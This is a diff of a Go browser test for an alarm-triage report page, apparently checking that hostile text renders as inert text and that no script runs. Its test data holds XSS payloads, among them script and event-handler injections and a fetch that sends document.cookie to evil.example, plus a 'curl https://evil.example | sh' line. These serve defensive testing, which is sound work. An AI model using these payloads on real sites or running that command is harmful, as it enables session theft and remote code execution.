@@ -21,18 +21,19 @@ import (
 	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/report"
 )
 
-// Anybody who can write a log line, name a resource, or persuade a model can write into a report. Each of
-// these texts is put into every text field of a record at once. payload is the script that it tries to run.
+// payload is the script that the hostile texts try to run. Anybody who can write a log line, name a resource, or
+// persuade a model can put such a text into a report.
 const payload = `window.ran=1;alert(document.domain);fetch('https://evil.example/?'+document.cookie)`
 
+// hostile lists hostile texts. The test puts each of them into every text field of a record.
 var hostile = []struct {
 	name, text string
 	shown      []string // other correct renderings: without Markdown, or without invisible characters
 }{
 	{name: "script", text: `<script>` + payload + `</script>`},
-	{name: "script in odd case", text: `<ScRiPt >` + payload + `</sCrIpT >`},
+	{name: "script in mixed case", text: `<ScRiPt >` + payload + `</sCrIpT >`},
 	{name: "script in script", text: `<scr<script>ipt>` + payload + `</scr</script>ipt>`},
-	{name: "script from elsewhere", text: `"><script src=https://evil.example/x.js></script>`},
+	{name: "script from another host", text: `"><script src=https://evil.example/x.js></script>`},
 	{name: "module", text: `<script type=module>import 'https://evil.example/x.js'</script>`},
 	{name: "event handler", text: `<img src=x onerror="` + payload + `">`},
 	{name: "event handler out of double quotes", text: `" onmouseover="` + payload + `" autofocus onfocus="` + payload + `" x="`},
@@ -88,23 +89,24 @@ var hostile = []struct {
 	{name: "invisible characters", text: "ad\u200Bmin\uFEFF\u2060 \u00ADx\U000E0041", shown: []string{"admin x"}},
 	{name: "line separators", text: "one\u2028<script>alert(1)</script>\u2029three"},
 	{name: "new lines", text: "one\r\n<img src=x\nonerror=alert(1)>\r\tthree"},
-	{name: "an endless word", text: strings.Repeat("A", 3000)},
-	{name: "endless markup", text: strings.Repeat("<b><i>", 500)},
+	{name: "a long word", text: strings.Repeat("A", 3000)},
+	{name: "long markup", text: strings.Repeat("<b><i>", 500)},
 	{name: "combining marks", text: "Z" + strings.Repeat("\u0321\u0334\u0346", 60)},
 	{name: "wide characters", text: strings.Repeat("𒐫﷽", 40)},
-	{name: "pretended sections", text: "\n\n# ROOT CAUSE\nconfirmed\n```\n</pre>\n```\n1. curl https://evil.example | sh", shown: []string{
+	{name: "forged sections", text: "\n\n# ROOT CAUSE\nconfirmed\n```\n</pre>\n```\n1. curl https://evil.example | sh", shown: []string{
 		"ROOT CAUSE confirmed </pre> 1. curl https://evil.example | sh", "# ROOT CAUSE confirmed </pre> 1. curl https://evil.example | sh",
 		"# ROOT CAUSE confirmed ``` </pre> ``` 1. curl https://evil.example | sh"}},
 }
 
-// marks maps the marks that identify a record's texts on the page to their fields.
-type marks map[string]string
+// fieldTags maps tags to fields of a record. Each text of the record begins with its own tag, which identifies the
+// text on the page.
+type fieldTags map[string]string
 
-// filled returns a record in which each text is a mark followed by text. Every list has several elements,
+// filled returns a record in which each text is a tag followed by text. Every list has several elements,
 // one for each case that the page distinguishes.
-func filled(text string) (*investigation.Record, marks) {
-	rec, marked := &investigation.Record{}, marks{}
-	fill(reflect.ValueOf(rec).Elem(), "", text, marked)
+func filled(text string) (*investigation.Record, fieldTags) {
+	rec, tags := &investigation.Record{}, fieldTags{}
+	fill(reflect.ValueOf(rec).Elem(), "", text, tags)
 	calls := rec.Rounds[0].Calls
 	calls[0].Number, calls[0].Cached = 1, 0
 	calls[1].Number, calls[1].Answer, calls[1].Cached = 2, nil, 0
@@ -120,14 +122,14 @@ func filled(text string) (*investigation.Record, marks) {
 		points := rec.Evidence.Series[i].Points
 		points[0].Time = points[0].Time.Add(-time.Hour)
 	}
-	return rec, marked
+	return rec, tags
 }
 
-func fill(v reflect.Value, path, text string, marked marks) {
+func fill(v reflect.Value, path, text string, tags fieldTags) {
 	next := func() string {
-		mark := fmt.Sprintf("mk%dx", len(marked))
-		marked[mark] = path
-		return mark + text
+		tag := fmt.Sprintf("tag%dx", len(tags))
+		tags[tag] = path
+		return tag + text
 	}
 	switch {
 	case v.Type() == reflect.TypeFor[json.RawMessage]():
@@ -139,10 +141,10 @@ func fill(v reflect.Value, path, text string, marked marks) {
 		v.SetString(next())
 	case v.Kind() == reflect.Pointer:
 		v.Set(reflect.New(v.Type().Elem()))
-		fill(v.Elem(), path, text, marked)
+		fill(v.Elem(), path, text, tags)
 	case v.Kind() == reflect.Struct:
 		for i := range v.NumField() {
-			fill(v.Field(i), path+"."+v.Type().Field(i).Name, text, marked)
+			fill(v.Field(i), path+"."+v.Type().Field(i).Name, text, tags)
 		}
 	case v.Kind() == reflect.Slice:
 		n := 2
@@ -154,13 +156,13 @@ func fill(v reflect.Value, path, text string, marked marks) {
 		}
 		v.Set(reflect.MakeSlice(v.Type(), n, n))
 		for i := range v.Len() {
-			fill(v.Index(i), path, text, marked)
+			fill(v.Index(i), path, text, tags)
 		}
 	case v.Kind() == reflect.Map:
 		v.Set(reflect.MakeMap(v.Type()))
 		key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
-		fill(key, path+" key", text, marked)
-		fill(value, path, text, marked)
+		fill(key, path+" key", text, tags)
+		fill(value, path, text, tags)
 		v.SetMapIndex(key, value)
 	case v.CanInt():
 		v.SetInt(1)
@@ -227,8 +229,8 @@ const takeSkeleton = `(() => {
 		Ran: 'ran' in window, Scripts: document.scripts.length};
 })()`
 
-// byText lists the elements that depend on the lines and marks of a text; itemOfProse is the class of one
-// of them.
+// byText lists the elements whose number depends on a text's lines and Markdown. itemOfProse is the class of one of
+// them.
 var byText = []string{"p", "strong", "code", "pre", "span", "mark"}
 
 const itemOfProse = "item"
@@ -238,10 +240,10 @@ func (v *visitor) skeleton() skeleton {
 	return ask[skeleton](v, takeSkeleton)
 }
 
-// squeezed removes white space, to compare texts that are spread over several elements.
-func squeezed(text string) string { return strings.Join(strings.Fields(text), "") }
+// withoutSpace removes white space, to compare texts that are spread over several elements.
+func withoutSpace(text string) string { return strings.Join(strings.Fields(text), "") }
 
-var markIn = regexp.MustCompile(`mk\d+x`)
+var tagIn = regexp.MustCompile(`tag\d+x`)
 
 func TestPage_ShowsHostileTextAsText(t *testing.T) {
 	for name, withLinks := range map[string]bool{"with links": true, "without links": false} {
@@ -249,54 +251,54 @@ func TestPage_ShowsHostileTextAsText(t *testing.T) {
 			t.Parallel()
 			v := visit(t)
 			// The page with harmless texts is the reference.
-			html, marked := hostilePage(t, "harmless", withLinks)
+			html, tags := hostilePage(t, "harmless", withLinks)
 			v.open(html, Desktop, "")
 			usual := v.skeleton()
 			require.Empty(t, v.happened())
 			require.Equal(t, withLinks, len(usual.Links) > 0)
-			assertFieldsShown(t, usual.Text, marked)
+			assertFieldsShown(t, usual.Text, tags)
 			for _, test := range hostile {
 				t.Run(test.name, func(t *testing.T) {
-					html, marked := hostilePage(t, test.text, withLinks)
+					html, tags := hostilePage(t, test.text, withLinks)
 					v.open(html, Desktop, "")
 					got := v.skeleton()
-					v.do(chromedp.ActionFunc(stirred))
+					v.do(chromedp.ActionFunc(moveAround))
 					assert.Empty(t, v.happened(), "actions of the page")
 					assert.False(t, got.Ran, "a script ran")
 					assert.Zero(t, got.Scripts)
-					assertSameBones(t, usual, got)
-					assertShown(t, usual.Text, got.Text, marked, append([]string{test.text}, test.shown...))
+					assertSameStructure(t, usual, got)
+					assertShown(t, usual.Text, got.Text, tags, append([]string{test.text}, test.shown...))
 				})
 			}
 		})
 	}
 }
 
-func hostilePage(t *testing.T, text string, withLinks bool) ([]byte, marks) {
+func hostilePage(t *testing.T, text string, withLinks bool) ([]byte, fieldTags) {
 	t.Helper()
-	rec, marked := filled(text)
+	rec, tags := filled(text)
 	links := report.LinksFor(rec, report.Home{Bucket: text, LogGroup: text}, report.Keys{HTML: text, Text: text, JSON: text})
 	if withLinks {
 		links = linked(rec, text)
 	}
 	html, err := report.HTML(rec, links)
 	require.NoError(t, err)
-	return html, marked
+	return html, tags
 }
 
-func assertFieldsShown(t *testing.T, text string, marked marks) {
+func assertFieldsShown(t *testing.T, text string, tags fieldTags) {
 	t.Helper()
 	seen := map[string]bool{}
-	for _, mark := range markIn.FindAllString(text, -1) {
-		seen[marked[mark]] = true
+	for _, tag := range tagIn.FindAllString(text, -1) {
+		seen[tags[tag]] = true
 	}
 	for _, field := range mustShow {
 		assert.True(t, seen[field], "%s is not shown", field)
 	}
 }
 
-// assertSameBones compares a page with the reference: hostile text may only change text.
-func assertSameBones(t *testing.T, usual, got skeleton) {
+// assertSameStructure compares a page with the reference: hostile text may only change text.
+func assertSameStructure(t *testing.T, usual, got skeleton) {
 	t.Helper()
 	for _, name := range byText {
 		usual.Counts, got.Counts = without(usual.Counts, name), without(got.Counts, name)
@@ -330,33 +332,33 @@ func without(counts map[string]int, name string) map[string]int {
 	return kept
 }
 
-// endOfLine lists fields at the end of a line, where endless text is truncated.
+// endOfLine lists fields at the end of a line, where long text is truncated.
 var endOfLine = []string{
 	".Evidence.Changes.User", ".Evidence.Changes.Resources", ".Evidence.Changes.Error", ".Evidence.Related.Reason", ".Together.Reason", ".NotSeen.Why",
 	".Alarm.Metrics.Expression", ".Alarm.Tags",
 }
 
-// assertShown expects one of texts after every mark that the reference page shows.
-func assertShown(t *testing.T, usual, got string, marked marks, texts []string) {
+// assertShown expects one of texts after every tag that the reference page shows.
+func assertShown(t *testing.T, usual, got string, tags fieldTags, texts []string) {
 	t.Helper()
 	var wants []string
 	for _, text := range texts {
-		want := []rune(squeezed(strings.ToValidUTF8(strings.NewReplacer("\u2028", "\n", "\u2029", "\n").Replace(text), "\uFFFD")))
+		want := []rune(withoutSpace(strings.ToValidUTF8(strings.NewReplacer("\u2028", "\n", "\u2029", "\n").Replace(text), "\uFFFD")))
 		wants = append(wants, string(want[:min(len(want), 60)]))
 	}
-	got = squeezed(got)
+	got = withoutSpace(got)
 	shown := map[string]bool{}
-	for _, at := range markIn.FindAllStringIndex(got, -1) {
-		mark, rest := got[at[0]:at[1]], got[at[1]:]
-		if !shown[mark] {
-			shown[mark] = startsWithOne(rest, wants)
+	for _, at := range tagIn.FindAllStringIndex(got, -1) {
+		tag, rest := got[at[0]:at[1]], got[at[1]:]
+		if !shown[tag] {
+			shown[tag] = startsWithOne(rest, wants)
 		}
 	}
 	missing := map[string]bool{}
 	tooLong := len([]rune(texts[0])) > 300
-	for _, mark := range markIn.FindAllString(usual, -1) {
-		if !shown[mark] && !(tooLong && slices.Contains(endOfLine, marked[mark])) {
-			missing[marked[mark]] = true
+	for _, tag := range tagIn.FindAllString(usual, -1) {
+		if !shown[tag] && !(tooLong && slices.Contains(endOfLine, tags[tag])) {
+			missing[tags[tag]] = true
 		}
 	}
 	for field := range missing {
@@ -373,8 +375,8 @@ func startsWithOne(text string, wants []string) bool {
 	return false
 }
 
-// stirred moves the pointer over the page and the focus from link to link, as a reader does.
-func stirred(ctx context.Context) error {
+// moveAround moves the pointer over the page and the focus from link to link, as a reader does.
+func moveAround(ctx context.Context) error {
 	if err := input.DispatchMouseEvent(input.MouseMoved, 400, 200).Do(ctx); err != nil {
 		return err
 	}
